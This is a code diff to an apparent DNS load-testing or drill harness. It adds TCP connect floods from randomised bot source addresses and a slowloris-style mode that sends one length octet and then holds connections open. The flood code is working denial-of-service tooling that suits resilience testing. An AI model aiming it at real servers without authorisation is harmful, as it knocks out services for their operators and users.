@@ -7,7 +7,8 @@
  * @module
  */
 import { createSocket, type Socket } from 'node:dgram';
-import { type AttackMix, type FloodInit, type FloodMessage, KINDS } from './flood-protocol.js';
+import { connect, type Socket as TcpSocket } from 'node:net';
+import { type AttackMix, type FloodInit, type FloodMessage, KINDS, type TcpFlood } from './flood-protocol.js';
 import { COUNTS_PER_KIND, type DrillAddon, loadDrillAddon, NATIVE_BATCH, toNetworkOrder } from './native.js';
 import { wireName, writeQuery } from './packet.js';
 import { botAddress } from './population.js';
@@ -119,8 +120,17 @@ function onNodeAnswer(m: Buffer): void {
 }
 
 function report(type: 'stats' | 'done', reason?: string): void {
-  const msg: FloodMessage = { type, sent: [...sent], counts: [...counts], behind, total, reason };
-  process.send?.(msg);
+  tcpCounts[5] = slowSockets.size;
+  const msg: FloodMessage = {
+    type,
+    sent: [...sent],
+    counts: [...counts],
+    behind,
+    total,
+    tcp: [...tcpCounts],
+    reason,
+  };
+  if (process.connected) process.send?.(msg);
 }
 
 function stop(reason: string): void {
@@ -131,6 +141,8 @@ function stop(reason: string): void {
     addon.close(fd);
   }
   for (const s of nodeSockets.values()) s.close();
+  if (tcpTimer) clearInterval(tcpTimer);
+  for (const s of [...slowSockets, ...connectSockets]) s.destroy();
   report('done', reason);
   process.disconnect?.();
   setTimeout(() => process.exit(0), 50).unref();
@@ -172,6 +184,94 @@ function loop(): void {
   }
   if (due <= 0) setTimeout(loop, 1);
   else setImmediate(loop);
+}
+
+// TCP floods: connections from bot addresses (Node sockets; at most TCP_OPEN_CAP open per sender).
+const TCP_OPEN_CAP = 3000;
+const tcpCounts = [0, 0, 0, 0, 0, 0];
+let tcpFlood: TcpFlood = {};
+let tcpAcc = 0;
+let tcpLast = 0;
+let tcpTimer: NodeJS.Timeout | undefined;
+const slowSockets = new Set<TcpSocket>();
+const connectSockets = new Set<TcpSocket>();
+
+function tcpSource(): string {
+  const cfg = init!;
+  return cfg.family === 6 ? '::1' : numberToIpv4(botAddress(Math.floor(rnd() * cfg.bots)));
+}
+
+function openConnect(): void {
+  const cfg = init!;
+  tcpCounts[0]++;
+  if (total >= cfg.maxPackets) return;
+  total++;
+  const sock = connect({ host: cfg.host, port: cfg.port, localAddress: tcpSource() });
+  connectSockets.add(sock);
+  const name = validNames[Math.floor(rnd() * validNames.length)];
+  const len = writeQuery(nameBuf, 2, Math.floor(rnd() * 65536), name, 1);
+  nameBuf[0] = len >> 8;
+  nameBuf[1] = len & 255;
+  const frame = Buffer.from(nameBuf.subarray(0, 2 + len));
+  let got = 0;
+  sock.setTimeout(2000, () => sock.destroy());
+  sock.on('connect', () => {
+    tcpCounts[1]++;
+    sock.write(frame);
+  });
+  sock.on('data', (d) => {
+    got += d.length;
+    if (got >= 2) {
+      tcpCounts[2]++;
+      sock.destroy();
+    }
+  });
+  sock.on('error', () => {
+    tcpCounts[3]++;
+  });
+  sock.on('close', () => connectSockets.delete(sock));
+}
+
+function openSlow(): void {
+  const cfg = init!;
+  tcpCounts[0]++;
+  const sock = connect({ host: cfg.host, port: cfg.port, localAddress: tcpSource() });
+  slowSockets.add(sock);
+  let mine = false;
+  sock.on('connect', () => {
+    tcpCounts[1]++;
+    sock.write(Uint8Array.of(0)); // one octet of the two-octet length, then nothing
+  });
+  sock.on('error', () => {
+    tcpCounts[3]++;
+  });
+  sock.on('close', () => {
+    slowSockets.delete(sock);
+    if (!mine && !stopped) tcpCounts[4]++;
+  });
+  (sock as TcpSocket & { dropByUs?: () => void }).dropByUs = () => {
+    mine = true;
+    sock.destroy();
+  };
+}
+
+function tcpTick(): void {
+  if (stopped) return;
+  const now = performance.now();
+  const dt = Math.min(0.1, (now - tcpLast) / 1000);
+  tcpLast = now;
+  const cfg = init!;
+  const share = 1 / cfg.senders;
+  tcpAcc += (tcpFlood.connect ?? 0) * share * dt;
+  while (tcpAcc >= 1) {
+    tcpAcc -= 1;
+    if (connectSockets.size + slowSockets.size < TCP_OPEN_CAP) openConnect();
+  }
+  const slowWant = Math.min(Math.round((tcpFlood.slow ?? 0) * share), TCP_OPEN_CAP);
+  for (let i = 0; i < 50 && slowSockets.size < slowWant; i++) openSlow();
+  if (slowSockets.size > slowWant)
+    for (const s of [...slowSockets].slice(0, slowSockets.size - slowWant))
+      (s as TcpSocket & { dropByUs?: () => void }).dropByUs?.();
 }
 
 async function openNode(cfg: FloodInit): Promise<void> {
@@ -244,12 +344,15 @@ process.on('message', async (msg: { type: string } & Record<string, unknown>) =>
       sources: addon ? cfg.bots + cfg.resolverAddresses.length : nodeSockets.size,
     });
     setInterval(() => report('stats'), 200).unref();
+    tcpLast = performance.now();
+    tcpTimer = setInterval(tcpTick, 10);
     loop();
   } else if (msg.type === 'rate') {
     // The counters as the rate changes: the parent's phase boundary.
     if (addon) addon.drain(fd, counts, 1_000_000);
     report('stats', 'rate');
     rate = Number(msg.rate);
+    tcpFlood = (msg.tcp as TcpFlood | undefined) ?? {};
     const mix = msg.mix as AttackMix;
     const w = KINDS.map((k) => Math.max(0, mix[k] ?? 0));
     const sum = w.reduce((a, b) => a + b, 0) || 1;
@@ -262,3 +365,4 @@ process.on('message', async (msg: { type: string } & Record<string, unknown>) =>
   }
 });
 process.on('disconnect', () => stop('parent gone'));
+process.on('error', () => {}); // a report racing the parent's exit
